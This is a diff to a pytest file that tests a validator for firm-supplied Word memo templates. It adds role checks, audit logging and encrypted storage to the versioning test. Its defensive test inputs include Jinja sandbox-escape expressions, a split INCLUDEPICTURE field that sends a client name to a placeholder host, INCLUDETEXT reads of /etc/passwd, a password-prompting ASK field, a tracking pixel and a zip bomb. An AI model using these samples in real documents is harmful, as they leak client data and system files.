@@ -6,7 +6,9 @@ import zipfile
 import pytest
 from docx import Document
 
-from assessment import memo, template_store as ts
+from sqlalchemy import text
+
+from assessment import access_log, crypto, memo, template_store as ts
 from assessment.errors import AssessmentError
 
 BUILTIN = ts.builtin().read_bytes()
@@ -46,6 +48,11 @@ def repack(data: bytes, add: dict[str, bytes] | None = None, edit: dict[str, tup
 
 GOOD = docx("{{ firm.name }}", "{{ question }}", "LINK and IMPORT are words here, not fields",
             "{%p for line in brief_answer %}", "{{ line }}", "{%p endfor %}", footer="DRAFT {{ matter.id }}")
+# a field whose instruction is split over two runs: `INCL` + `UDEPICTURE`, each harmless to a per-run check
+SPLIT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText></w:r><w:r>'
+         b'<w:instrText xml:space="preserve">UDEPICTURE "http://x.example/{{ client.name }}" </w:instrText></w:r>'
+         b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+         b'</w:r></w:p>')
 REL = b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' \
       b'Target="https://tracker.example/pixel.png" TargetMode="External"/>'
 
@@ -53,7 +60,7 @@ REL = b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDo
 def refusal(data: bytes) -> list:
     problems = ts.check(data, "firm.docx")
     assert problems, "the template was accepted"
-    assert all(p.code == "TP001" and p.file == "firm.docx" for p in problems)
+    assert all(p.code.startswith("TP") and p.file == "firm.docx" for p in problems)
     return problems
 
 
@@ -66,7 +73,7 @@ def refusal(data: bytes) -> list:
     (docx("ok", footer="{% import 'os' as os %}"), "`import` is not allowed", "footer of section 1, paragraph 1"),
     (docx("{{ client.ssn }}"), "'ssn'", "paragraph 1"),                                     # a field the memo lacks
     (docx("x", "{{ ''.__class__.__mro__ }}"), "unsafe", "paragraph 2"),                      # sandbox escape
-    (docx("{{ cycler.__init__.__globals__.os }}"), "unsafe", "paragraph 1"),             # a Jinja global
+    (docx("{{ cycler.__init__.__globals__.os }}"), "unknown variable `cycler`", "paragraph 1"),  # a global, removed
 ])
 def test_broken_or_malicious_tags_are_refused_with_their_place(data, message, where):
     problems = refusal(data)
@@ -89,6 +96,19 @@ def test_broken_or_malicious_tags_are_refused_with_their_place(data, message, wh
     (repack(GOOD, edit={"word/document.xml": (b"<w:body>", b'<w:body><w:p><w:fldSimple w:instr=" HYPERLINK &quot;'
                                                           b'https://tracker.example&quot; "><w:r><w:t>site</w:t></w:r>'
                                                           b'</w:fldSimple></w:p>')}), "HYPERLINK field"),
+    (repack(GOOD, edit={"word/document.xml": (b"<w:body>", b"<w:body>" + SPLIT)}), "INCLUDEPICTURE field"),
+    (repack(GOOD, edit={"word/document.xml": (b"<w:body>", b'<w:body><w:p xmlns:v="http://schemas.openxmlformats.org/'
+                                                          b'wordprocessingml/2006/main"><v:r><v:instrText> INCLUDETEXT '
+                                                          b'"/etc/passwd" </v:instrText></v:r></w:p>')}),
+     "INCLUDETEXT field"),                                       # another prefix for Word's namespace
+    (repack(GOOD, edit={"word/_rels/document.xml.rels": (b"</Relationships>", REL.replace(b'"', b"'") +
+                                                         b"</Relationships>")}),
+     "external link to https://tracker.example/pixel.png"),      # attributes in single quotes
+    (repack(GOOD, edit={"word/document.xml": (b"<w:body>", b'<w:body><w:p><w:fldSimple w:instr=" ASK pw &quot;Your '
+                                                          b'password?&quot; "/></w:p>')}), "ASK field, which is not"),
+    (repack(GOOD, edit={"word/document.xml": (b"<w:body>", b"<w:body><w:p><w:r><w:instrText> {{ 'INCLUDE' ~ 'TEXT' }} "
+                                                          b"/etc/passwd </w:instrText></w:r></w:p>")}),
+     "a field whose name is a template tag"),
     (repack(GOOD, edit={"word/document.xml": (b"?>", b'?><!DOCTYPE x [<!ENTITY a "aaaa">]>')}), "DTD"),
     (repack(GOOD, add={"word/media/bomb.bin": b"\x00" * (70 * 2**20)}), "zip bomb"),
     (repack(GOOD, add={"word/media/dense.bin": b"\x00" * (3 * 2**20)}), "expands"),
@@ -103,27 +123,56 @@ def test_a_good_template_passes_and_renders_a_memo(kb):
     assert ts.check(BUILTIN, "memo.docx") == []
 
 
+def test_a_field_instruction_is_read_whole_and_judged_by_an_allow_list(kb):
+    """Issue 13, H4: `INCL` + `UDEPICTURE` in two runs passed the per-run check of a forbidden list;
+    the instruction is now joined from its fldChar begin to its separate, and only fields that
+    number, date or cross-reference pass."""
+    (p,) = ts.check(repack(GOOD, edit={"word/document.xml": (b"<w:body>", b"<w:body>" + SPLIT)}), "firm.docx")
+    assert p.message == "the template holds a INCLUDEPICTURE field, which fetches or links outside content"
+    assert p.field == "paragraph 1" and "INCLUDEPICTURE \"http://x.example/{{ client.name }}\"" in p.hint
+    fields = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DATE \\@ "MMMM d, yyyy" '
+              b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+              b'<w:p><w:fldSimple w:instr=" = 2 * 3 "/><w:fldSimple w:instr="PAGEREF _Toc1 \\h"/></w:p>')
+    assert ts.check(repack(GOOD, edit={"word/document.xml": (b"<w:body>", b"<w:body>" + fields)}), "firm.docx") == []
+
+
 def test_versions_history_conflict_and_revert(kb):
-    path, version = ts.active()
-    assert version is None and path == ts.builtin()
-    base = ts.active_sha()
-    v1 = ts.save(GOOD, "firm letterhead.docx", author="Dana (staff)", reason="new letterhead", base_sha=base)
-    assert ts.active() == (ts.store_dir() / v1.file, v1) and ts.active_sha() == ts.sha(GOOD)
-    with pytest.raises(ts.Conflict):         # a second editor who opened the page before v1 was saved
-        ts.save(BUILTIN, "memo.docx", author="Lee", reason="other change", base_sha=base)
-    with pytest.raises(AssessmentError):     # refused: nothing stored, the active template unchanged
-        ts.save(docx("{{ nope }}"), "bad.docx", author="Lee", reason="typo", base_sha=ts.sha(GOOD))
-    assert [v.sha for v in ts.history()] == [v1.sha]
-    v2 = ts.revert(None, author="Lee", reason="back to default", base_sha=ts.sha(GOOD))
-    assert ts.active_sha() == ts.sha(BUILTIN) and "revert to the built-in template" in v2.reason
-    ts.revert(v1, author="Lee", reason="the letterhead after all", base_sha=ts.sha(BUILTIN))
-    assert ts.active_sha() == ts.sha(GOOD) and len(ts.history()) == 3
-    with pytest.raises(AssessmentError):
-        ts.save(GOOD, "x.docx", author=" ", reason="no name", base_sha=ts.sha(GOOD))
+    from assessment import db
+    from conftest import make_user
+    from assessment.permissions import Forbidden
+    dana, ann = make_user("dana", "staff", demo=False), make_user("ann", "attorney", demo=False)
+    with db.session() as s:
+        data, version = ts.active(s)
+        assert version is None and data == BUILTIN
+        base = ts.active_sha(s)
+        v1 = ts.save(s, dana, GOOD, "firm letterhead.docx", author="Dana (staff)", reason="new letterhead", base_sha=base)
+        assert ts.active(s) == (GOOD, v1) and ts.active_sha(s) == ts.sha(GOOD)
+        with pytest.raises(ts.Conflict):         # a second editor who opened the page before v1 was saved
+            ts.save(s, dana, BUILTIN, "memo.docx", author="Lee", reason="other change", base_sha=base)
+        with pytest.raises(AssessmentError):     # refused: nothing stored, the active template unchanged
+            ts.save(s, dana, docx("{{ nope }}"), "bad.docx", author="Lee", reason="typo", base_sha=ts.sha(GOOD))
+        with pytest.raises(Forbidden):           # an attorney's role may not change the firm's template
+            ts.save(s, ann, GOOD, "x.docx", author="Ann", reason="mine", base_sha=ts.sha(GOOD))
+        assert [v.sha for v in ts.history(s)] == [v1.sha]
+        v2 = ts.revert(s, dana, None, author="Lee", reason="back to default", base_sha=ts.sha(GOOD))
+        assert ts.active_sha(s) == ts.sha(BUILTIN) and "revert to the built-in template" in v2.reason
+        ts.revert(s, dana, v1, author="Lee", reason="the letterhead after all", base_sha=ts.sha(BUILTIN))
+        assert ts.active_sha(s) == ts.sha(GOOD) and len(ts.history(s)) == 3
+        with pytest.raises(AssessmentError):
+            ts.save(s, dana, GOOD, "x.docx", author=" ", reason="no name", base_sha=ts.sha(GOOD))
+        saves = [r.reason for r in access_log.query(s, event="template-save")]
+    assert len(saves) == 3 and saves[-1].startswith("firm letterhead.docx, SHA-256 ")
+    with db.engine().connect() as conn:          # kept encrypted, like every stored file
+        stored = bytes(conn.execute(text("SELECT content FROM blobs WHERE sha256 = :h"), {"h": ts.sha(GOOD)}).scalar_one())
+    assert crypto.is_sealed(stored) and b"word/document.xml" not in stored
 
 
 def test_memos_use_the_active_template(kb):
-    ts.save(GOOD, "firm.docx", author="Dana", reason="letterhead", base_sha=ts.active_sha())
+    from assessment import db
+    from conftest import make_user
+    dana = make_user("dana", "staff", demo=False)
+    with db.session() as s:
+        ts.save(s, dana, GOOD, "firm.docx", author="Dana", reason="letterhead", base_sha=ts.active_sha(s))
     result, case = ts.demo_case()
     doc = Document(io.BytesIO(memo.render(result, case, firm_name="Alder & Quist LLP")))
     assert [p.text for p in doc.paragraphs][:2] == ["Alder & Quist LLP", memo.question_presented(result, case)]
